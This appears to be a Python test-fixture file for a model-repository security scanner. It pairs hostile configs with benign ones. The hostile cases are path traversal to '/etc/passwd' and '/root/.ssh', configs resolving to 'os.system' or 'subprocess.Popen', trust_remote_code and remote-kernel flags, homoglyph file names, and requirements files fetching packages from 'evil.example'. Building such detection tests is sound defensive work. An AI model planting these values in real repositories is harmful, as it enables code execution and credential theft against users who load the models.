"""Repos that differ in one config or one name: hostile ones by kind, and honest ones as libraries write them.

Each case is the files that are laid over an ordinary repo; ``None`` takes a file away. Values that are no bytes are JSON.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from support.scanned_files import safetensors

Files = dict[str, Any]

VIT: Files = {
    "architectures": ["ViTForImageClassification"],
    "model_type": "vit",
    "hidden_size": 8,
    "id2label": {"0": "cat", "1": "dog"},
    "label2id": {"cat": 0, "dog": 1},
}
TIMM: Files = {
    "architecture": "vit_tiny_patch16_224",
    "num_classes": 10,
    "pretrained_cfg": {"tag": "in1k", "hf_hub_id": "timm/vit_tiny", "input_size": [3, 224, 224], "url": ""},
}
LORA: Files = {
    "peft_type": "LORA",
    "base_model_name_or_path": "google/vit-base-patch16-224",
    "auto_mapping": {"base_model_class": "ViTForImageClassification", "parent_library": "transformers.models.vit"},
    "megatron_config": None,
    "megatron_core": "megatron.core",
    "r": 8,
    "target_modules": ["query"],
}
CLIP: Files = {"model_cfg": {"embed_dim": 8, "vision_cfg": {}, "text_cfg": {}}, "preprocess_cfg": {"mean": [0.5]}}


def vit(**more: Any) -> Files:
    return {"config.json": {**VIT, **more}}


def timm(**more: Any) -> Files:
    return {"config.json": {**TIMM, **more}}


def cfg(**more: Any) -> Files:
    return timm(pretrained_cfg={**TIMM["pretrained_cfg"], **more})


def lora(**more: Any) -> Files:
    return {
        "config.json": None,
        "model.safetensors": None,
        "adapter_config.json": {**LORA, **more},
        "adapter_model.safetensors": safetensors(),
    }


def clip(text: Files, vision: Files | None = None) -> Files:
    model = {"embed_dim": 8, "vision_cfg": vision or {}, "text_cfg": text}
    return {
        "config.json": None,
        "model.safetensors": None,
        "open_clip_config.json": {**CLIP, "model_cfg": model},
        "open_clip_model.safetensors": safetensors(),
    }


def image(**more: Any) -> Files:
    return {"preprocessor_config.json": {"image_processor_type": "ViTImageProcessor", "do_resize": True, **more}}


def tokens(**more: Any) -> Files:
    return {"tokenizer_config.json": {"tokenizer_class": "BertTokenizer", **more}}


def pipeline(**more: Any) -> Files:
    return {"config.json": None, "model_index.json": {"_class_name": "StableDiffusionPipeline", **more}}


def sentences(*rows: Files, **files: Any) -> Files:
    return {"modules.json": [{"idx": 0, "name": "0", "path": "", **row} for row in rows], **files}


def aliased(target: str, value: Any, **more: Any) -> Files:
    return vit(attribute_map={"hidden_act": target}, hidden_act=value, **more)


_KERNEL = "someone/fast-attention"
HOSTILE: list[tuple[str, Files]] = [
    # renamed keys
    ("alias", aliased("_attn_implementation_internal", _KERNEL)),
    ("alias", aliased("_experts_implementation", f"{_KERNEL}:fast@main")),
    ("alias", vit(attribute_map={"_attn_implementation_internal": "x"}, x=_KERNEL)),  # the other way round: on read
    ("alias", vit(attribute_map={"a": "b", "c": "b", "c2": "c"}, a=_KERNEL, text={"attribute_map": {"c2": "kernel"}})),
    ("alias", vit(text_config={"attribute_map": {"x": "_attn_implementation"}, "x": {"": _KERNEL}})),
    ("alias", vit(attribute_map={"x": "_attn_implementation"}, vision_config={"x": _KERNEL})),
    ("alias", vit(attribute_map={"x": "auto_map"}, x={"AutoModel": "net.Net"})),
    ("alias", vit(attribute_map={"x": "trust_remote_code"}, sub={"x": True})),
    ("alias", vit(attribute_map={"x": "backbone"}, x="../elsewhere")),
    ("alias", vit(attribute_map={"id2label": "_attn_implementation"}, id2label={"0": _KERNEL})),
    ("alias", vit(attribute_map={**{f"p{i}": "x" for i in range(200)}, "x": "auto_map"}, p7={"AutoModel": "a.B"})),
    ("alias", vit(is_encoder_decoder=True, decoder_auto_map={"AutoModel": "net.Net"})),
    # kernels
    ("kernel", vit(_attn_implementation=f"{_KERNEL}@main:forward")),
    ("kernel", vit(attn_implementation={"vision_config": f"paged|{_KERNEL}"})),
    ("kernel", vit(experts_implementation=_KERNEL)),
    ("kernel", vit(per_layer_config={"0": {"_attn_implementation_internal": _KERNEL}})),
    ("kernel", vit(kernel_config={"kernel_mapping": {"RMSNorm": {"cuda": f"{_KERNEL}:Norm"}}})),
    ("kernel", {"generation_config.json": {"attn_implementation": _KERNEL}}),
    # code
    ("code", vit(text_config={"vision": [{"auto_map": {"AutoConfig": "c.C"}}]})),
    ("code", {"generation_config.json": {"custom_generate": "someone/decode"}}),
    ("code", image(auto_map={"AutoImageProcessor": "p.P"})),
    ("code", tokens(auto_map=["t.T", None])),
    ("code", {"processor_config.json": {"auto_map": {"AutoProcessor": "someone/x--p.P"}}}),
    ("code", {"video_preprocessor_config.json": {"video_processor_type": "someone/x--p.P"}}),
    ("code", vit(custom_pipelines={"x": {"impl": "p.P", "pt": ["AutoModel"]}})),
    ("code", vit(quantization_config={"quant_method": "x", "trust_remote_code": True})),
    # data and processors
    ("processor", image(repo_path="/etc", class_info_file="passwd")),
    ("processor", image(class_info_file="/etc/passwd")),
    ("processor", image(class_info_file="../../secrets.json", repo_path="shi-labs/oneformer_demo")),
    ("processor", {"processor_config.json": {"image_processor": {"repo_path": "../elsewhere"}}}),
    ("processor", {"audio_tokenizer_config.json": {"audio_tokenizer_name_or_path": "/home/user/model"}}),
    ("processor", {"speaker_embeddings_path.json": {"v": {"semantic_prompt": "../../x.npy"}, "repo_or_path": "."}}),
    ("processor", {"speaker_embeddings_path.json": {"repo_or_path": "/home/user"}}),
    ("processor", {"video_preprocessor_config.json": {"draw_on_frames": True, "font": "../../x.ttf"}}),
    # files that a config selects
    ("selects", vit(configuration_files=["config.4.0.0.json.txt"])),
    ("selects", vit(configuration_files=["config.4/../../x.json"])),
    ("selects", tokens(fast_tokenizer_files=["notes/tokenizer.4.0.0.json"])),
    ("selects", vit(transformers_weights="https://example.com/model.safetensors")),
    ("selects", tokens(vocab_file="/etc/passwd")),
    ("selects", tokens(spm_file="file:///etc/passwd")),
    ("selects", tokens(chat_template=[{"name": "../../../.bashrc", "template": "{{ 1 }}"}])),
    ("selects", {"export.json": {"components": {"model": {"file": "../../x.pt2"}}}}),
    # timm
    ("timm", timm(model_args={"checkpoint_path": "/etc/passwd"})),
    ("timm", timm(model_args={"pretrained_cfg": {"file": "/etc/passwd"}})),
    ("timm", timm(model_args={"pretrained_cfg_overlay": {"url": "https://example.com/x.pth"}})),
    ("timm", timm(model_args={"cache_dir": "/root/.ssh"})),
    ("timm", cfg(url="https://github.com/rwightman/pytorch-image-models/releases/download/../../../../x/y/z.pth")),
    ("timm", cfg(url="https://storage.googleapis.com/vit_models/../other-bucket/x.npz")),
    ("timm", cfg(url="https://dl.fbaipublicfiles.com//../x.pth")),
    ("timm", cfg(hf_hub_id="timm/vit_tiny@refs/pr/1")),
    ("timm", cfg(hf_hub_id="timm/../someone/x")),
    ("timm", cfg(hf_hub_filename="../../x.bin")),
    ("timm", cfg(custom_load="hf")),
    ("timm", timm(architecture="HF-Hub:someone/x")),
    ("timm", timm(architecture="local-dir:..")),
    ("timm", timm(architecture="../../etc")),
    # peft
    ("peft", lora(megatron_config={"x": 1}, megatron_core="evil.core")),
    ("peft", lora(auto_mapping={"base_model_class": "system", "parent_library": "os"})),
    ("peft", lora(peft_type="XLORA", adapters={"0": "../../x", "1": "someone/x"})),
    ("peft", lora(prompt_tuning_init_state_dict_path="/home/user/x.bin")),
    ("peft", lora(prompt_tuning_init_state_dict_path="https://example.com/x.bin")),
    ("peft", lora(tokenizer_name_or_path="../../x")),
    ("peft", lora(shadow_model="someone/x")),
    ("peft", lora(corda_config={"cache_file": "/tmp/x.pt"})),
    ("peft", lora(tokenizer_kwargs={"trust_remote_code": True})),
    ("peft", lora(base_model_name_or_path="hf-hub:../x")),
    # open_clip
    ("open_clip", clip({"hf_model_name": "../../x"})),
    ("open_clip", clip({"hf_tokenizer_name": "/home/user/tokenizer"})),
    ("open_clip", clip({"tokenizer_kwargs": {"trust_remote_code": True}})),
    ("open_clip", clip({}, {"timm_model_name": "hf-hub:someone/x"})),
    # diffusers and sentence-transformers
    ("pipeline", pipeline(unet=["my_unet", "Net"])),
    ("pipeline", pipeline(vae=["os", "system"])),
    ("pipeline", pipeline(unet=["diffusers", "UNet2DModel"], vae=["my_vae", "V", {"repo": "someone/x"}])),
    ("pipeline", pipeline(_class_name=["pipeline", "Evil"])),
    ("sentences", sentences({"type": "subprocess.Popen"})),
    ("sentences", sentences({"type": "sentence_transformers.models.Transformer", "path": "/etc"})),
    (
        "sentences",
        sentences(
            {"type": "sentence_transformers.models.Router"},
            **{"router_config.json": {"types": {"query_0": "evil.Net"}}},
        ),
    ),
    (
        "sentences",
        sentences(
            {"type": "sentence_transformers.models.Dense"},
            **{"2_Dense/config.json": {"activation_function": "torch.hub.help"}},
        ),
    ),
    (
        "sentences",
        sentences(
            {"type": "sentence_transformers.models.Dense"},
            **{"2_Dense/config.json": {"activation_function": "os.abort"}},
        ),
    ),
    ("sentences", {"sentence_bert_config.json": {"model_args": {"trust_remote_code": True}}}),
    # Keras
    ("keras", {"task.json": {"module": "os", "class_name": "system", "config": {"x": 1}, "registered_name": None}}),
    ("keras", {"preprocessor.json": {"a": {"b": {"module": "subprocess", "class_name": "Popen", "config": {}}}}}),
    ("keras", {"task.json": [{"module": "builtins", "class_name": "function", "config": "eval"}]}),
    # names
    ("names", {"Config.json": {**VIT, "hidden_size": 16}}),
    ("names", {"config.json ": {**VIT, "hidden_size": 16}}),
    ("names", {" config.json": {**VIT, "hidden_size": 16}}),
    ("names", {"\u0441onfig.json": {**VIT, "hidden_size": 16}}),  # a Cyrillic letter
    ("names", {"config\u200b.json": {**VIT, "hidden_size": 16}}),
    ("names", {"\uff43onfig.json": {**VIT, "hidden_size": 16}}),  # full width
    ("names", {"MODEL.safetensors": safetensors()}),
    ("names", {"model.saf\u0435tensors": safetensors()}),
    ("names", {"sub/x.txt": b"", "preprocessor_config.json": {}, "preprocessor_\u03f2onfig.json": {}}),
    # the same tensor twice, as two shapes
    ("twice", {"model.safetensors": b""}),
    # what is installed with the repo
    ("requirements", {"custom_generate/requirements.txt": b"--index-url https://evil.example/simple\ntorch\n"}),
    ("requirements", {"custom_generate/requirements.txt": b"helper @ https://evil.example/helper.whl\n"}),
    (
        "requirements",
        {"handler.py": b"x = 1\n", "requirements.txt": b"torch \\\n  --extra-index-url=http://evil.example\n"},
    ),
]
_TWICE = b'{"a":{"dtype":"F32","shape":[1,2],"data_offsets":[0,8]},"\\u0061":{"dtype":"F32","shape":[2,1],"data_offsets":[0,8]}}'
for _kind, _files in HOSTILE:
    if _kind == "twice":
        _files["model.safetensors"] = len(_TWICE).to_bytes(8, "little") + _TWICE + bytes(8)

BENIGN: list[tuple[str, Files]] = [
    ("alias", vit()),
    ("alias", vit(attribute_map={})),
    ("alias", vit(attribute_map={"n_embd": "hidden_size", "n_layer": "num_hidden_layers"})),
    ("alias", vit(decoder_start_token_id=1, encoder_layers=2)),
    ("kernel", vit(_attn_implementation="sdpa", _experts_implementation="grouped_mm", conv_kernel=[3, 3])),
    ("kernel", vit(_attn_implementation_autoset=True, autocast_kernel_dtype="bfloat16")),
    ("code", vit(auto_map=None, trust_remote_code=False, label2id={"auto_map": 0, "url": 1, "trust_remote_code": 2})),
    ("code", timm(label_descriptions={"url": "https://example.com/", "auto_map": "a map, of cars"})),
    ("code", {"generation_config.json": {"custom_generate": None, "do_sample": True}}),
    ("processor", image(repo_path=None, class_info_file=None)),
    ("processor", image(repo_path="shi-labs/oneformer_demo", class_info_file="ade20k_panoptic.json")),
    ("processor", {"audio_tokenizer_config.json": {"audio_tokenizer_name_or_path": "org/dac", "audio_tokenizer_class": "DacModel"}}),
    ("processor", {"speaker_embeddings_path.json": {"repo_or_path": "suno/bark", "v2/en": {"semantic_prompt": "speaker_embeddings/v2/en.npy"}}}),
    ("selects", vit(configuration_files=["config.4.0.0.json", "config.json"])),
    ("selects", tokens(special_tokens_map_file="/root/.cache/huggingface/transformers/abc", name_or_path="org/x")),
    ("selects", tokens(tokenizer_file="/root/.cache/huggingface/hub/models--x/snapshots/abc/tokenizer.json")),
    ("selects", tokens(vocab_file=None, chat_template=[{"name": "tool_use", "template": "{{ messages }}"}])),
    ("selects", vit(_name_or_path="/home/somebody/checkpoints/vit")),
    ("timm", timm(model_args={"drop_path_rate": 0.1})),
    ("timm", timm(model_args={"img_size": [224, 224], "act_layer": "gelu", "global_pool": "avg"})),
    ("timm", cfg(url="https://github.com/rwightman/pytorch-image-models/releases/download/v0.1-weights/x_1-0a.pth")),
    ("timm", cfg(url="https://dl.fbaipublicfiles.com/deit/deit_tiny_patch16_224-a1311bcb.pth")),
    ("timm", cfg(origin_url="https://github.com/facebookresearch/deit", paper_ids="arXiv:2012.12877", license="mit")),
    ("timm", cfg(custom_load=False, file=None, hf_hub_filename=None)),
    ("timm", timm(architecture="tf_efficientnetv2_s.in21k_ft_in1k")),
    ("peft", lora()),
    ("peft", lora(auto_mapping=None, task_type="IMAGE_CLASSIFICATION")),
    ("peft", lora(auto_mapping={"base_model_class": "UNet2DConditionModel", "parent_library": "diffusers.models.unets"})),
    ("peft", lora(auto_mapping={"base_model_class": "Net", "parent_library": "__main__"})),
    ("peft", lora(peft_type="PROMPT_TUNING", tokenizer_name_or_path="google/vit-base-patch16-224")),
    ("peft", lora(peft_type="XLORA", adapters={"0": "org/lora-a", "1": "org/lora-b"})),
    ("peft", lora(corda_config=None, eva_config=None, loftq_config={}, layer_replication=None)),
    ("open_clip", clip({"context_length": 64, "hf_tokenizer_name": "timm/ViT-B-16-SigLIP"})),
    ("open_clip", clip({"hf_model_name": "xlm-roberta-base", "hf_tokenizer_name": "xlm-roberta-base", "hf_pooler_type": "mean"})),
    ("open_clip", clip({"hf_model_name": "FacebookAI/roberta-base"}, {"timm_model_name": "vit_base_patch16_siglip_224"})),
    ("pipeline", pipeline(unet=["diffusers", "UNet2DConditionModel"], vae=[None, None], _diffusers_version="0.30.0")),
    ("pipeline", pipeline(safety_checker=["stable_diffusion", "StableDiffusionSafetyChecker"])),
    ("pipeline", pipeline(watermarker=["deepfloyd_if", "IFWatermarker"], text_encoder=["transformers", "T5EncoderModel"])),
    ("sentences", sentences({"type": "sentence_transformers.models.Transformer"}, {"type": "pylate.models.Dense.Dense"})),
    ("sentences", {"2_Dense/config.json": {"in_features": 8, "activation_function": "torch.nn.modules.activation.Tanh"}}),
    ("sentences", vit(activation_function="gelu_new", sbert_ce_default_activation_function="torch.nn.modules.linear.Identity")),
    ("sentences", {"sentence_bert_config.json": {"max_seq_length": 256, "do_lower_case": False, "model_args": {"attn_implementation": "sdpa"}}}),
    ("keras", {"task.json": {"module": "keras_hub.src.models.vit", "class_name": "ViTImageClassifier", "config": {"x": 1}, "registered_name": "keras_hub>ViTImageClassifier"}}),
    ("keras", {"results.json": {"model": {"class_name": "my_net", "config": {"lr": 0.1}, "module": "nets"}}}),
    ("names", {"README.md": b"# x\n", "license": b"MIT", "LICENSE.txt": b"MIT"}),
    ("names", {"\u043f\u0440\u0438\u043c\u0435\u0440.txt": b"text\n", "\u4f8b.md": b"text\n"}),
    ("names", {"Config.yaml": b"a: 1\n", "sub/config.json": VIT}),
    ("twice", {"model.safetensors": safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}})}),
    ("requirements", {"requirements.txt": b"torch\n--extra-index-url https://download.pytorch.org/whl/cu121\n"}),
    ("requirements", {"app.py": b"import gradio\n", "requirements.txt": b"git+https://github.com/huggingface/transformers\ngradio\n"}),
    ("requirements", {"custom_generate/requirements.txt": b"transformers>=4.50\n# -i https://x\nsafetensors ; python_version > '3.8'\n"}),
]  # fmt: skip


def write(folder: Path, files: Files) -> Path:
    """An ordinary repo with the files of a case laid over it."""
    whole: Files = {"config.json": VIT, "model.safetensors": safetensors(), **files}
    for name, value in whole.items():
        if value is None:
            continue
        place = folder / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(value if isinstance(value, bytes) else json.dumps(value).encode())
    return folder
